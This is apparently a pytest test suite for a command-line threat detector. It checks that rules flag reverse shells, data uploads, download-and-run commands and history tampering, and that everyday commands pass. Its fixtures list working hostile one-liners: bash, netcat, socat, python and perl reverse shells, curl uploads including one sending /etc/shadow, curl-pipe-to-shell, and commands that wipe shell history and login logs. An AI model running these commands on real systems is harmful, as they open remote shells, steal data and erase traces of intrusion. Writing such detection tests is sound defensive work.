"""Command lines judged the same wherever they are found: reverse shells, download-and-run,
uploads, history tampering; and everyday commands that must match none of them."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from labwarden.respond.triage.rules.patterns import (
    archive_names,
    download_exec,
    exfiltration,
    history_tampering,
    piped_archive_upload,
    reverse_shell,
)

REVERSE = [
    "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1",
    "sh -c 'exec 5<>/dev/udp/10.0.0.1/53; cat <&5 | sh >&5'",
    "nc -e /bin/sh 203.0.113.50 80",
    "ncat 203.0.113.50 4444 -e /bin/bash",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.50 1234 >/tmp/f",
    "socat TCP:203.0.113.50:4444 EXEC:/bin/bash,pty,stderr",
    'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.50",4444));'
    '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'',
    "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);exec(\"/bin/sh -i\");'",
    "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.50:443"
    " > /tmp/s",
    "awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.50/4444\"; while(1) {print |& s}}'",
]
UPLOADS = [
    ("aws s3 cp /data/trials/t.parquet s3://drop/x", "aws s3", True),
    ("aws s3 sync /data/models s3://drop/models --quiet", "aws s3", True),
    ("s3cmd put model.pt s3://drop/", "s3cmd", True),
    ("gsutil -m cp -r /data gs://drop", "gsutil", True),
    ("rclone copy /data/models mega:loot", "rclone", True),
    ("rclone sync -P /data remote:bucket/path", "rclone", True),
    ("scp -r /data/models u@198.51.100.7:/srv/", "scp", True),
    ("rsync -avz /data/ backup@10.20.0.40:/backups/", "rsync", False),
    ("rsync -av /data/ storage.example.org:/x/", "rsync", None),
    ("curl -T dump.tgz https://transfer.sh/dump.tgz", "curl", True),
    ("curl --upload-file ./m.zip http://198.51.100.7/u", "curl", True),
    ("curl -F 'file=@/tmp/x.tgz' https://0x0.st", "curl", True),
    ("curl -X POST --data-binary @/etc/shadow http://198.51.100.7/", "curl", True),
    ("wget --post-file=/data/t.csv http://198.51.100.7/", "wget", True),
    ("nc 198.51.100.7 9000 < /tmp/x.tgz", "netcat", True),
    ("azcopy copy /data 'https://acct.blob.core.windows.net/c?sv=x'", "azcopy", True),
]
EVERYDAY = [
    "ls -la",
    "git push origin main",
    "ssh alice@login-01",
    "scp alice@login-01:/x .",
    "aws s3 cp s3://datasets/imagenet.tar .",
    "aws s3 ls s3://bucket/",
    "rclone lsd remote:",
    "curl -s https://pypi.org/simple/",
    "wget https://example.org/file.tar.gz",
    "python train.py --config llm.yaml",
    "nc -zv db-01 5432",
    "rm -rf /tmp/build",
    "find /tmp -type f -mtime +7 -delete",
    "tar czf runs.tgz runs/",
    "echo hello > notes.txt",
    "history | grep ssh",
    "bash -c 'cd /opt/app && ./run.sh'",
    "docker run --rm -it ubuntu bash",
    "journalctl -u ssh --since today",
]


@pytest.mark.parametrize("command", REVERSE)
def test_reverse_shells(command: str) -> None:
    assert reverse_shell(command) is not None


@pytest.mark.parametrize("command", EVERYDAY)
def test_everyday_commands_are_nothing(command: str) -> None:
    assert reverse_shell(command) is None
    assert download_exec(command) is None
    assert exfiltration(command) is None
    assert history_tampering(command) is None
    assert not piped_archive_upload(command)


@pytest.mark.parametrize(("command", "tool", "outside"), UPLOADS)
def test_uploads(command: str, tool: str, outside: bool | None) -> None:
    found = exfiltration(command)
    assert found is not None and found.tool == tool and found.outside is outside


@pytest.mark.parametrize(
    "command",
    [
        "curl -fsSL http://203.0.113.50/i.sh | bash",
        "wget -qO- http://x/y | sudo sh",
        "echo ZWNobyBoaQ== | base64 -d | sh",
        "nohup /dev/shm/.x/agent &",
        "cd /tmp; /tmp/.ICE-unix/x",
        "curl -o /tmp/a http://x/a && chmod +x /tmp/a",
    ],
)
def test_download_and_run(command: str) -> None:
    assert download_exec(command) is not None


@pytest.mark.parametrize(
    ("command", "what"),
    [
        ("history -c", "history cleared"),
        ("unset HISTFILE", "unset"),
        ("export HISTFILE=/dev/null", "/dev/null"),
        ("HISTSIZE=0", "zero"),
        ("set +o history", "turned off"),
        ("ln -sf /dev/null ~/.bash_history", "linked"),
        ("rm -f /root/.bash_history", "erased"),
        ("cat /dev/null > ~/.bash_history", "emptied"),
        ("shred -u /var/log/wtmp", "login records"),
        ("echo > /var/log/auth.log", "login records"),
        ("journalctl --vacuum-time=1s", "journal"),
    ],
)
def test_history_tampering(command: str, what: str) -> None:
    found = history_tampering(command)
    assert found is not None and what in found


def test_archives_and_piped_uploads() -> None:
    assert archive_names("tar czf /tmp/.c/m.tgz /data/models") == ["/tmp/.c/m.tgz"]
    assert archive_names("zip -r out.zip /data && curl -F f=@out.zip http://x") == ["out.zip"]
    assert piped_archive_upload("tar cz /data | nc 198.51.100.7 9000")
    assert piped_archive_upload("tar c /data | ssh u@198.51.100.7 'cat > d.tar'")
    assert not piped_archive_upload("tar tzf x.tgz | less")


@given(st.text(max_size=500))
def test_any_text_is_judged_without_raising(command: str) -> None:
    reverse_shell(command)
    download_exec(command)
    exfiltration(command)
    history_tampering(command)
    piped_archive_upload(command)
    archive_names(command)
